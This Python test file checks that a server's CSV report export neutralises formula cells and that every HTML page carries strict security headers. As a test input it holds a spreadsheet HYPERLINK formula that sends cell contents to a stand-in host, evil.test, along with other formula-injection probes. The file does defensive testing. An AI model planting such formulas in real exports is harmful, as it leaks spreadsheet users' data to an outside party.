"""Input and output hardening through the real server: CSV cells that a
spreadsheet would evaluate, and the security headers of every HTML page."""
import csv
import io

from lib import Server

FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'


def test_report_csv_neutralises_formula_cells():
    with Server() as s:
        assert s.post("/api/v1/accounts", {"name": "acme", "tier": "standard"}).status == 201
        assert s.post("/api/v1/users", {"email": "a@acme.test", "role": "customer", "account": "acme"}).status == 201
        for cat in (FORMULA, "@SUM(1+1)", "-2+3", "+cmd", "plain"):
            r = s.post("/api/v1/tickets", {"subject": "=1+1 subject", "category": cat,
                                           "requester": "a@acme.test"})
            assert r.status == 201, r
        q = "from=2000-01-01T00:00:00Z&to=2100-01-01T00:00:00Z&group_by=category"
        r = s.get(f"/api/v1/reports/kpis?{q}", headers={"Accept": "text/csv"})
        assert r.status == 200 and r.header("Content-Type").startswith("text/csv"), r
        rows = list(csv.DictReader(io.StringIO(r.body)))
        keys = sorted(row["key"] for row in rows if row["scope"] == "group")
        assert keys == sorted(["'" + FORMULA, "'@SUM(1+1)", "'-2+3", "'+cmd", "plain"]), keys
        # no cell of the whole file starts with a formula character
        for row in csv.reader(io.StringIO(r.body)):
            for cell in row:
                assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not _number(cell)), cell
        # numeric cells stay numbers
        created = [row for row in rows if row["scope"] == "all"][0]
        numeric = [v for k, v in created.items() if v and _number(v)]
        assert numeric, created


def _number(s):
    try:
        float(s)
        return True
    except ValueError:
        return False


ROUTE_FILES = ["src/api/handlers.h", "src/api/routes.c"]
SAMPLE_PARAMS = {"token": "not-a-valid-survey-token", "file": "pages.css", "id": "1", "name": "all"}


def get_routes():
    """The GET rows of the route table ({"GET", "/path", handler, ...})."""
    import os
    import re
    root = os.path.join(os.path.dirname(__file__), "..", "..")
    paths = []
    for f in ROUTE_FILES:
        with open(os.path.join(root, f)) as fh:
            paths += re.findall(r'\{"GET", "([^"]+)"', fh.read())
    return [re.sub(r"\{(\w+)\}", lambda m: SAMPLE_PARAMS.get(m.group(1), "1"), p) for p in paths]


def test_every_html_page_carries_the_security_headers():
    with Server() as s:
        html = {}
        for path in get_routes():
            for tok in (None, "default"):
                r = s.get(path, token=tok)
                if (r.header("Content-Type") or "").startswith("text/html"):
                    html[path] = r
        # the console, portal, dashboard, status page, known issues and the survey page
        assert {"/", "/portal", "/dashboard", "/status", "/known-issues",
                "/survey/not-a-valid-survey-token"} <= set(html), sorted(html)
        console = s.get("/", token=None)
        csp = console.header("Content-Security-Policy")
        assert "frame-ancestors 'none'" in csp and "default-src 'none'" in csp and "'unsafe-inline'" not in csp
        for path, r in html.items():
            assert r.header("Content-Security-Policy") == csp, (path, r.headers)
            assert r.header("X-Frame-Options") == "DENY", path
            assert r.header("X-Content-Type-Options") == "nosniff", path
            assert r.header("Referrer-Policy") == "no-referrer", path
            # the policy allows no inline style or script: the pages use none
            assert "<style" not in r.body and "style=" not in r.body and "<script>" not in r.body, path
        # their stylesheet is this origin's, with the same headers
        css = s.get("/app/pages.css", token=None)
        assert css.status == 200 and css.header("Content-Type").startswith("text/css"), css
        assert css.header("Content-Security-Policy") == csp and css.header("X-Frame-Options") == "DENY"
        for path in ("/status", "/known-issues", "/survey/not-a-valid-survey-token"):
            assert 'href="/app/pages.css"' in html[path].body, path
